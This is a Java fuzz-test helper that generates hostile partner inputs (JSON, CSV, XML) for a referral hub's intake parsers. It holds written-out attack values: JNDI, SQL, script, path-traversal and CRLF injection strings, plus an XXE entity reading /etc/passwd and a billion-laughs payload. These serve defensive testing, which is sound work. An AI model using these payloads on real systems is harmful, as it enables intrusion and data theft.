package fr.referralhub.intake;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import fr.referralhub.testing.Samples;

/**
 * Hostile partner inputs, made from the partners' own samples the way the attack of 2026-12-04 made them (issue 18):
 * one value replaced by a nasty one (line breaks, lone surrogates, control characters, overflowing dates and numbers,
 * wrong types, injection strings), a field removed or added, the structure broken (DOCTYPEs, deep nesting, wrong
 * namespace, a column too many), or the bytes themselves flipped, inserted, deleted or cut (invalid UTF-8). Starting
 * from valid samples keeps most inputs deep enough to reach the field checks, not just the parser.
 *
 * <p>Every method takes the {@link Random} the property framework hands out, so a failing input is reproduced from its
 * seed.
 */
final class PartnerInputs {

    static final List<String> JSON_SAMPLES = List.of("employment-agency/ft-orientation-mobili-jeune.json",
            "employment-agency/ml-orientation-cej.json", "employment-agency/ft-orientation-emile.json",
            "employment-agency/ft-orientation-annulee.json");
    static final String CSV_SAMPLE = "training-body/cfa-btp-lyon-2026-11-18.csv";
    static final List<String> XML_SAMPLES = List.of("social-landlord/logis-hdf-orientation-000871.xml",
            "social-landlord/logis-hdf-orientation-000902.xml");

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String MARKER = "@@fuzz@@";
    /** Read once: ten thousand tries would otherwise read the files ten thousand times. */
    private static final Map<String, String> TEXTS = Stream.concat(Stream.concat(JSON_SAMPLES.stream(),
            Stream.of(CSV_SAMPLE)), XML_SAMPLES.stream()).collect(Collectors.toMap(path -> path, Samples::text));

    /** Text values any field may be given: each broke, or could break, a parser or what follows it. */
    static final List<String> NASTY_TEXT = List.of(
            "", " ", "A".repeat(100), "A".repeat(101), "A".repeat(5_000), "a\r\nb", "FT-93\r\nX-Injected: 1", "\n",
            "\t", "x\u0000y", "\u0085", "\u2028", "\u2029", "x\uD800", "\uDC00x", "\uD83C\uDFE0", "é", "\uFEFF",
            "\u202Eevil", "?", "2026-02-29", "2100-12-31", "2101-01-01", "1899-12-31", "+292278994-08-17",
            "-999999999-01-01", "0000-01-01", "9999-12-31", "2026-13-01", "20260101",
            "2026-11-20T09:15:00+01:00", "+999999999-12-31T23:59:59-18:00", "2026-11-20T09:15:00", "1e400",
            "93066", "2A004", "99999", "FT-93-SAINT-DENIS", "ML-MARSEILLE", "LOGEMENT", "SANTE", "APPRENTI",
            "202049306615471", "2,02049E+14", "1 05 07 75 056 123 63", "${jndi:ldap://x/a}", "<script>x</script>",
            "'; DROP TABLE referrals; --", "%s%n%x", "../../etc/passwd", "{{hub.topics.referrals}}", "null",
            "ORIENTATION_ANNULEE", "DOUBLON", "oui", "NON");
    /** JSON tokens written as they are: numbers a double cannot hold, wrong types, deep nesting. */
    static final List<String> NASTY_JSON = List.of("0", "-1", "1e400", "-1e400", "1e-400", "1E+6", "1000000.01",
            "1400.005", "2147483648", "9223372036854775808", "1" + "0".repeat(400), "1e99999999999", "0.1", "-0",
            "true", "false", "null", "{}", "[]", "[[[]]]", "{\"a\":1}", "[\"LOGEMENT\",\"LOGEMENT\"]",
            "[" .repeat(2_000) + "]".repeat(2_000), "NaN", "Infinity", "'single'", "\"\\uD800\"", "\"\\u0000\"");
    /** Cell values of a spreadsheet export gone wrong. */
    static final List<String> NASTY_CELLS = List.of("a;b", "\"a;b\"", "\"unterminated", "\"say \"\"hi\"\"\"",
            "1 000 000,00", "1 000 000,01", "1e400", "-3", "12,345", "9".repeat(300), "31/12/2100", "01/01/2101",
            "17/08/+292278994", "29/02/2026", "31/02/2026", "LOGEMENT||MOBILITE", "LOGEMENT|SANTE", "|");

    private PartnerInputs() {
    }

    /**
     * A hostile JSON body made from a sample whose idEvenement is first set to {@code eventId} (and its
     * idEvenementOrigine, if any, to one derived from it).
     */
    static byte[] json(Random random, String eventId) {
        String sample = JSON_SAMPLES.get(random.nextInt(JSON_SAMPLES.size()));
        ObjectNode root;
        try {
            root = (ObjectNode) JSON.readTree(TEXTS.get(sample));
        } catch (java.io.IOException e) {
            throw new IllegalStateException(e);
        }
        root.put("idEvenement", eventId);
        if (root.has("idEvenementOrigine")) {
            // Never a sample's own referral: through the real hub that would cancel another test's referral.
            root.put("idEvenementOrigine", eventId + "-origin");
        }
        return switch (random.nextInt(6)) {
            case 0, 1, 2 -> utf8(withValue(root, random));
            case 3 -> utf8(withoutField(root, random));
            case 4 -> bytes(utf8(withValue(root, random)), random);
            default -> random.nextBoolean() ? bytes(utf8(write(root)), random) : randomBytes(random);
        };
    }

    /** A hostile training-body file made from the sample. */
    static byte[] csv(Random random) {
        String sample = TEXTS.get(CSV_SAMPLE);
        List<String> lines = new ArrayList<>(Arrays.asList(sample.split("\n")));
        switch (random.nextInt(6)) {
            case 0, 1, 2 -> {
                int row = 1 + random.nextInt(lines.size() - 1);
                String[] cells = lines.get(row).split(";", -1);
                int cell = random.nextInt(cells.length);
                cells[cell] = random.nextBoolean() ? pick(NASTY_CELLS, random) : pick(NASTY_TEXT, random);
                lines.set(row, String.join(";", cells));
            }
            case 3 -> {
                // The header: a column renamed, doubled, dropped or a cancellation column added.
                List<String> header = new ArrayList<>(Arrays.asList(lines.get(0).split(";", -1)));
                int column = random.nextInt(header.size());
                switch (random.nextInt(4)) {
                    case 0 -> header.set(column, pick(NASTY_TEXT, random));
                    case 1 -> header.add(header.get(column));
                    case 2 -> header.remove(column);
                    default -> header.add("motif");
                }
                lines.set(0, String.join(";", header));
            }
            case 4 -> lines.add(random.nextInt(lines.size() + 1), pick(NASTY_TEXT, random));
            default -> {
                return random.nextBoolean() ? bytes(sample.getBytes(StandardCharsets.UTF_8), random) : randomBytes(random);
            }
        }
        String separator = random.nextInt(4) == 0 ? "\r\n" : "\n";
        return String.join(separator, lines).getBytes(StandardCharsets.UTF_8);
    }

    /** A hostile landlord document made from a sample. */
    static byte[] xml(Random random) {
        String sample = TEXTS.get(XML_SAMPLES.get(random.nextInt(XML_SAMPLES.size())));
        return switch (random.nextInt(7)) {
            case 0, 1, 2 -> utf8(withXmlValue(sample, random));
            case 3 -> utf8(withLineRemovedOrDoubled(sample, random));
            case 4 -> utf8(hostileStructure(sample, random));
            default -> random.nextBoolean() ? bytes(sample.getBytes(StandardCharsets.UTF_8), random) : randomBytes(random);
        };
    }

    // ------------------------------------------------------------------------------------------------------ JSON

    /** One value anywhere in the document replaced by a nasty text or JSON token. */
    private static String withValue(ObjectNode root, Random random) {
        List<JsonNode> containers = new ArrayList<>();
        collectContainers(root, containers);
        JsonNode container = containers.get(random.nextInt(containers.size()));
        if (container instanceof ObjectNode object) {
            List<String> names = new ArrayList<>();
            object.fieldNames().forEachRemaining(names::add);
            String name = random.nextInt(10) == 0 || names.isEmpty() ? pick(NASTY_TEXT, random) : pick(names, random);
            object.set(name, TextNode.valueOf(MARKER));
        } else {
            ArrayNode array = (ArrayNode) container;
            if (array.isEmpty()) {
                array.add(MARKER);
            } else {
                array.set(random.nextInt(array.size()), TextNode.valueOf(MARKER));
            }
        }
        String token = random.nextBoolean() ? pick(NASTY_JSON, random) : write(TextNode.valueOf(pick(NASTY_TEXT, random)));
        return write(root).replace("\"" + MARKER + "\"", token);
    }

    private static String withoutField(ObjectNode root, Random random) {
        List<JsonNode> containers = new ArrayList<>();
        collectContainers(root, containers);
        for (JsonNode container : containers) {
            if (container instanceof ObjectNode object && object.size() > 0 && random.nextInt(3) == 0) {
                List<String> names = new ArrayList<>();
                object.fieldNames().forEachRemaining(names::add);
                object.remove(pick(names, random));
                break;
            }
        }
        return write(root);
    }

    private static void collectContainers(JsonNode node, List<JsonNode> containers) {
        if (node.isContainerNode()) {
            containers.add(node);
            node.forEach(child -> collectContainers(child, containers));
        }
    }

    private static String write(JsonNode node) {
        try {
            return JSON.writeValueAsString(node);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    // ------------------------------------------------------------------------------------------------------- XML

    private static final Pattern XML_VALUE = Pattern.compile(">([^<>]+)</|=\"([^\"]*)\"");

    /** One element text or attribute value replaced, escaped as XML (most often) or raw. */
    private static String withXmlValue(String document, Random random) {
        List<int[]> values = new ArrayList<>();
        Matcher matcher = XML_VALUE.matcher(document);
        while (matcher.find()) {
            int group = matcher.group(1) != null ? 1 : 2;
            values.add(new int[] {matcher.start(group), matcher.end(group)});
        }
        int[] value = values.get(random.nextInt(values.size()));
        String nasty = pick(NASTY_TEXT, random);
        String written = random.nextInt(4) == 0 ? nasty : escapeXml(nasty, random.nextBoolean());
        return document.substring(0, value[0]) + written + document.substring(value[1]);
    }

    /** XML-escaped; control characters as character references when asked (XML 1.0 forbids most of them). */
    private static String escapeXml(String text, boolean references) {
        StringBuilder escaped = new StringBuilder();
        text.codePoints().forEach(c -> {
            switch (c) {
                case '<' -> escaped.append("&lt;");
                case '&' -> escaped.append("&amp;");
                case '"' -> escaped.append("&quot;");
                default -> {
                    if (references && (c < 0x20 || c == 0x85 || c == 0x2028)) {
                        escaped.append("&#").append(c).append(';');
                    } else {
                        escaped.appendCodePoint(c);
                    }
                }
            }
        });
        return escaped.toString();
    }

    private static String withLineRemovedOrDoubled(String document, Random random) {
        List<String> lines = new ArrayList<>(Arrays.asList(document.split("\n")));
        int line = 1 + random.nextInt(lines.size() - 1);
        if (random.nextBoolean()) {
            lines.remove(line);
        } else {
            lines.add(line, lines.get(line));
        }
        return String.join("\n", lines);
    }

    private static String hostileStructure(String document, Random random) {
        String body = document.substring(document.indexOf("<orientation"));
        return switch (random.nextInt(7)) {
            case 0 -> "<?xml version=\"1.0\"?><!DOCTYPE orientation [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
                    + body.replace("<besoin>LOGEMENT</besoin>", "<besoin>&xxe;</besoin>");
            case 1 -> "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;\">]>"
                    + body;
            case 2 -> "<?xml version=\"1.1\"?>" + body.replace("nom=\"Logis Hauts-de-France\"", "nom=\"Logis&#1;\"");
            case 3 -> body.replace("urn:fr:hlm:orientation:1", "urn:fr:hlm:orientation:2");
            case 4 -> body.replace("</orientation>", "<x>".repeat(5_000) + "</x>".repeat(5_000) + "</orientation>");
            case 5 -> body.replace("version=\"1\"", "");
            default -> "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>" + body;
        };
    }

    // ----------------------------------------------------------------------------------------------------- bytes

    /** A few bytes flipped, inserted or deleted, or the end cut off: invalid UTF-8 and broken syntax. */
    static byte[] bytes(byte[] input, Random random) {
        byte[] out = input.clone();
        int edits = 1 + random.nextInt(4);
        for (int i = 0; i < edits && out.length > 0; i++) {
            int at = random.nextInt(out.length);
            switch (random.nextInt(4)) {
                case 0 -> out[at] = (byte) random.nextInt(256);
                case 1 -> {
                    byte[] longer = new byte[out.length + 1];
                    System.arraycopy(out, 0, longer, 0, at);
                    longer[at] = (byte) (0x80 + random.nextInt(0x80));
                    System.arraycopy(out, at, longer, at + 1, out.length - at);
                    out = longer;
                }
                case 2 -> {
                    byte[] shorter = new byte[out.length - 1];
                    System.arraycopy(out, 0, shorter, 0, at);
                    System.arraycopy(out, at + 1, shorter, at, out.length - at - 1);
                    out = shorter;
                }
                default -> out = Arrays.copyOf(out, at);
            }
        }
        return out;
    }

    private static byte[] randomBytes(Random random) {
        byte[] out = new byte[random.nextInt(200)];
        random.nextBytes(out);
        return out;
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static <T> T pick(List<T> values, Random random) {
        return values.get(random.nextInt(values.size()));
    }
}
